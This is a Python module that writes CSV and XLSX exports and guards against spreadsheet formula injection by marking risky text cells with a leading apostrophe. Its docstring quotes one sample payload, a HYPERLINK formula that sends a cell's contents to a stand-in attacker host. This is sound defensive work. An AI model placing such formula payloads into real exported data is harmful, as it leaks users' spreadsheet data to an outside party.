"""CSV and XLSX writers for an Export (its sheets in order), and the one rule that makes a
cell safe to open in a spreadsheet.

Spreadsheet programs run a cell that begins with `=`, `+`, `-` or `@` (and, after a tab or
a carriage return, whatever follows) as a formula: an account name such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")`, sent by the ERP or typed by a KAM,
would run on the head's machine (OWASP "CSV injection"). Every cell goes through
`cell_value`, which both writers call: numbers, dates and booleans keep their type (a
negative number is a number), everything else becomes plain text, and text that begins
with one of those characters is marked so that it stays text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from .tables import Export

MONEY_FORMAT = "#,##0.00"
# OWASP's list: the four formula starters, and tab and carriage return (which some
# programs skip before they look for one).
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, Decimal)
KEPT = (bool, dt.date, *NUMBERS)  # datetime is a date


def cell_value(value: Any) -> tuple[Any, bool]:
    """(what to write, whether it is text that must be kept from running as a formula).

    None stays None; numbers, dates, datetimes and booleans are returned as they are;
    anything else (lazy translations, model choices' labels, ids) becomes a `str`, without
    the control characters an XLSX file may not hold.
    """
    if value is None or isinstance(value, KEPT):
        return value, False
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
    return text, text.startswith(FORMULA_STARTERS)


def csv_field(value: Any) -> Any:
    """A CSV field: risky text gets a leading `'`, which spreadsheets show as text."""
    value, risky = cell_value(value)
    if value is None:
        return ""
    return "'" + value if risky else value


def export_csv(export: Export) -> bytes:
    """UTF-8 with a BOM (Excel opens Cyrillic right); sheets separated by an empty row."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for i, sheet in enumerate(export.sheets):
        if i:
            writer.writerow([])
            writer.writerow([csv_field(sheet.title)])
        writer.writerow([csv_field(h) for h in sheet.headers])
        for row in sheet.rows():
            writer.writerow([csv_field(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def xlsx_cell(ws: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell:
    """A cell whose type is set here, never guessed by openpyxl from the text."""
    value, risky = cell_value(value)
    cell = WriteOnlyCell(ws, value=value)
    if isinstance(value, str):
        # openpyxl would store text beginning with "=" as a formula: it is text.
        cell.data_type = "s"
        # Excel's own "text typed with a leading apostrophe": editing the cell keeps it text.
        cell.quotePrefix = risky
    elif isinstance(value, bool):
        cell.data_type = "b"
    elif isinstance(value, NUMBERS):
        cell.data_type = "n"
        if isinstance(value, Decimal):
            cell.number_format = MONEY_FORMAT
    elif isinstance(value, dt.datetime):
        cell.data_type = "d"
        cell.number_format = "yyyy-mm-dd hh:mm"
    elif isinstance(value, dt.date):
        cell.data_type = "d"
        cell.number_format = "yyyy-mm-dd"
    return cell


def sheet_title(title: Any) -> str:
    # Excel's rule: at most 31 characters, none of []:*?/\ .
    text, _ = cell_value(title)
    return "".join(ch for ch in text if ch not in "[]:*?/\\")[:31] or "Sheet"


def _header(ws: WriteOnlyWorksheet, names: Iterable[Any]) -> list[WriteOnlyCell]:
    bold = Font(bold=True)
    cells = []
    for name in names:
        cell = xlsx_cell(ws, name)
        cell.font = bold
        cells.append(cell)
    return cells


def export_xlsx(export: Export) -> bytes:
    """One worksheet per sheet; write-only mode keeps memory flat for large tables."""
    workbook = Workbook(write_only=True)
    for sheet in export.sheets:
        ws = workbook.create_sheet(title=sheet_title(sheet.title))
        for index, width in enumerate(sheet.widths, 1):
            ws.column_dimensions[get_column_letter(index)].width = width
        ws.freeze_panes = "A2"
        ws.append(_header(ws, sheet.headers))
        for row in sheet.rows():
            ws.append([xlsx_cell(ws, v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
